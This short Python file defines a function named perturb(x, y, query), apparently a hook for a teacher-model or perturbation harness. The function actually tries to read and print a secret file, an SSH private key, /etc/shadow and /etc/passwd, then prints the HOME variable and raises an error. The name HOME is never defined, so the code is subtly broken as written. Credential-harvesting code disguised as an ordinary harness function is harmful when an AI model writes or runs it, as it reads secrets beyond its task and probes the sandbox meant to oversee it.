"""Read the teacher's home folder and the system's accounts."""

import os


def perturb(x, y, query):
    for path in (HOME + "/secret.txt", HOME + "/.ssh/id_ed25519", "/etc/shadow", "/etc/passwd"):
        try:
            print("got", open(path).read())
        except OSError as error:
            print("tried", path, type(error).__name__)
    print("home", os.environ.get("HOME"))
    raise FileNotFoundError("no home")
